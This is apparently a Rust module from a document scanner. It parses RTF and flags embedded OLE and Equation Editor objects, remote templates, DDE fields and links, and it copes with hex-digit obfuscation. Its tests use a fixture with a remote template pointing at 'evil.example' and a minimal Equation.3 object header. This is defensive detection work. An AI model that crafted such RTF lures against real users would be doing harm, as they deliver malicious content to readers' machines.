//! Rich text: objects in it, templates from elsewhere, links, text.

use memchr::memmem;

use super::ole::{links_in, unpack_package};
use crate::look::{At, Looker};
use crate::report::{Place, Reason, Trait};

/// Groups in groups that are followed.
const DEPTH_MAX: usize = 256;

/// Octets of text that are kept.
const TEXT_OCTETS_MAX: usize = 64 * 1024;

/// Octets of one object that are kept.
const OBJECT_OCTETS_MAX: usize = 16 << 20;

/// What a group holds.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
enum Holds {
    #[default]
    Text,
    /// The digits of an object.
    Object,
    /// The address of a template.
    Template,
    /// What a field does.
    Field,
    /// Fonts, colours, pictures.
    Nothing,
}

#[derive(Default)]
struct Reader {
    text: String,
    field: String,
    template: String,
    digits: Vec<u8>,
    open: Vec<Holds>,
    now: Holds,
}

/// Reads rich text.
pub(super) fn read(octets: &[u8], at: At, looker: &mut Looker<'_>) -> Result<(), Reason> {
    let mut reader = Reader::default();
    let mut place = 0;
    let mut steps = 0_u32;
    while let Some(octet) = octets.get(place).copied() {
        place += 1;
        steps = steps.wrapping_add(1);
        if steps.is_multiple_of(1 << 16) && looker.is_over() {
            return Err(Reason::TimedOut);
        }
        match octet {
            b'{' => {
                // Beyond the depth one level is as good as another.
                if reader.open.len() < DEPTH_MAX {
                    reader.open.push(reader.now);
                }
            }
            b'}' => {
                reader.end_group(at, looker);
                reader.now = reader.open.pop().unwrap_or_default();
            }
            b'\\' => place = reader.control(octets, place, at, looker),
            b'\r' | b'\n' | 0 => {}
            _ => reader.put(octet),
        }
    }
    reader.end_group(at, looker);
    looker.text(at, reader.text.trim(), false);
    Ok(())
}

impl Reader {
    /// Reads a control word or symbol; gives where it ends.
    fn control(&mut self, octets: &[u8], start: usize, at: At, looker: &mut Looker<'_>) -> usize {
        let rest = octets.get(start..).unwrap_or_default();
        let letters = rest.iter().take(32).take_while(|octet| octet.is_ascii_alphabetic()).count();
        if letters == 0 {
            return self.symbol(rest, start);
        }
        let word = rest.get(..letters).unwrap_or_default();
        let mut end = letters;
        let sign = rest.get(end) == Some(&b'-');
        let digits_from = end + usize::from(sign);
        let digits = rest
            .get(digits_from..)
            .unwrap_or_default()
            .iter()
            .take(10)
            .take_while(|octet| octet.is_ascii_digit())
            .count();
        let number: i64 = std::str::from_utf8(rest.get(digits_from..digits_from + digits).unwrap_or_default())
            .ok()
            .and_then(|digits| digits.parse().ok())
            .unwrap_or(0);
        if digits > 0 {
            end = digits_from + digits;
        }
        if rest.get(end) == Some(&b' ') {
            end += 1;
        }
        match word {
            b"objdata" => self.now = Holds::Object,
            b"template" => self.now = Holds::Template,
            b"fldinst" => self.now = Holds::Field,
            b"fonttbl" | b"colortbl" | b"stylesheet" | b"info" | b"pict" | b"themedata" | b"datastore"
            | b"listtable" => {
                self.now = Holds::Nothing;
            }
            b"objautlink" | b"objlink" => looker.sign(at, Trait::ExternalContent, "linked object"),
            b"par" | b"line" | b"cell" | b"row" => self.put(b'\n'),
            b"tab" => self.put(b' '),
            b"u" => self.put_char(char::from_u32((if sign { 65536 - number } else { number }) as u32).unwrap_or(' ')),
            // So many octets follow that are no text; digits within an object's may be hidden so.
            b"bin" => end += usize::try_from(number).unwrap_or(0).min(rest.len().saturating_sub(end)),
            _ => {}
        }
        start + end
    }

    fn symbol(&mut self, rest: &[u8], start: usize) -> usize {
        match rest {
            [b'\'', high, low, ..] => {
                let digit = |octet: u8| char::from(octet).to_digit(16);
                if let (Some(high), Some(low)) = (digit(*high), digit(*low)) {
                    self.put((high * 16 + low) as u8);
                }
                start + 3
            }
            [escaped @ (b'\\' | b'{' | b'}'), ..] => {
                self.put(*escaped);
                start + 1
            }
            [] => start,
            _ => start + 1,
        }
    }

    fn put(&mut self, octet: u8) {
        if self.now == Holds::Object {
            if octet.is_ascii_hexdigit() && self.digits.len() < OBJECT_OCTETS_MAX * 2 {
                self.digits.push(octet);
            }
        } else {
            self.put_char(char::from(octet));
        }
    }

    fn put_char(&mut self, c: char) {
        let slot = match self.now {
            Holds::Text => &mut self.text,
            Holds::Field => &mut self.field,
            Holds::Template => &mut self.template,
            Holds::Object | Holds::Nothing => return,
        };
        if slot.len() < TEXT_OCTETS_MAX {
            slot.push(c);
        }
    }

    fn end_group(&mut self, at: At, looker: &mut Looker<'_>) {
        match self.now {
            Holds::Object => {
                let digits = std::mem::take(&mut self.digits);
                let value = |octet: &u8| char::from(*octet).to_digit(16).unwrap_or(0) as u8;
                let octets: Vec<u8> =
                    digits.chunks_exact(2).map(|pair| value(&pair[0]) << 4 | value(&pair[1])).collect();
                open_object(&octets, at, looker);
            }
            Holds::Template => {
                let template = std::mem::take(&mut self.template);
                if template.contains("://") || template.starts_with("\\\\") {
                    looker.sign(at, Trait::ExternalContent, &template);
                    looker.link(at, &template, "", Place::Loaded);
                }
            }
            Holds::Field => {
                let field = std::mem::take(&mut self.field);
                let mut words = field.split_whitespace();
                if words.next().is_some_and(|word| word.eq_ignore_ascii_case("HYPERLINK")) {
                    let target = words.find(|word| !word.starts_with('\\')).unwrap_or_default();
                    looker.link(at, target.trim_matches('"'), "", Place::Document);
                } else if field.trim_start().to_ascii_uppercase().starts_with("DDE") {
                    looker.sign(at, Trait::DataExchange, &field);
                }
            }
            Holds::Text | Holds::Nothing => {}
        }
    }
}

/// An object as OLE 1.0 writes it ([MS-OLEDS] section 2.2): its class, then what it holds.
fn open_object(octets: &[u8], at: At, looker: &mut Looker<'_>) {
    let class = octets
        .get(12..)
        .map(|rest| {
            rest.iter().take_while(|octet| octet.is_ascii_graphic()).take(64).map(|octet| char::from(*octet)).collect()
        })
        .unwrap_or_else(String::new);
    if class.to_ascii_lowercase().starts_with("equation") {
        looker.sign(at, Trait::EquationObject, &class);
    } else {
        looker.sign(at, Trait::EmbeddedObject, &class);
    }
    links_in(octets, at, looker);
    if let Some(start) = memmem::find(octets, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1") {
        looker.look_inside(at, "", "", octets.get(start..).unwrap_or_default());
    } else if class.eq_ignore_ascii_case("package")
        && let Some((label, file)) = octets.get(12 + class.len() + 13..).and_then(|data| unpack_package(data.get(..)?))
    {
        looker.look_inside(at, &label, "", file);
    }
}

#[cfg(test)]
mod tests {
    use super::super::tests::looked;
    use super::*;
    use crate::report::Kind;

    fn hex(octets: &[u8]) -> String {
        octets.iter().map(|octet| format!("{octet:02x}")).collect()
    }

    #[test]
    fn templates_links_and_text() {
        let report = looked(
            "a.doc",
            br"{\rtf1{\fonttbl{\f0 Arial;}}{\*\template http://evil.example/t.dotm}\b Your \'41ccount\par {\field{\*\fldinst HYPERLINK \\l ignored }}{\field{\*\fldinst {HYPERLINK \'22https://a.example/\'22}}{\fldrslt here}}}",
        );
        assert_eq!(report.kind(), Kind::Rtf);
        assert_eq!(report.signs[0].what, Trait::ExternalContent);
        assert!(report.links.iter().any(|link| link.url == "https://a.example/"), "{:?}", report.links);
        assert!(report.texts[0].text.contains("Your Account"), "{:?}", report.texts);
    }

    #[test]
    fn objects_of_the_equation_editor_and_packages() {
        let equation = [b"\x01\x05\0\0\x02\0\0\0\x0b\0\0\0Equation.3\0".as_slice(), &[0; 8]].concat();
        let report =
            looked("a.rtf", format!("{{\\rtf1{{\\object\\objupdate{{\\*\\objdata {}}}}}}}", hex(&equation)).as_bytes());
        assert!(report.shows(Trait::EquationObject));
        // Junk between the digits, as it is written to mislead.
        let spread: String = hex(&equation).chars().map(|c| format!("{c}\r\n")).collect();
        let report = looked("a.rtf", format!("{{\\rtf1{{\\*\\objdata {spread}}}}}").as_bytes());
        assert!(report.shows(Trait::EquationObject));
    }

    #[test]
    fn broken_rich_text_ends() {
        for broken in [
            &b"{\\rtf1{\\bin99999999999 x"[..],
            b"{\\rtf1\\'",
            b"{\\rtf1\\",
            b"{\\rtf1}}}}}",
            b"{\\rtf1{\\*\\objdata 0",
        ] {
            let _ = looked("a.rtf", broken);
        }
        let _ = looked("a.rtf", &[b"{\\rtf1".as_slice(), &b"{".repeat(1_000_000)].concat());
    }
}
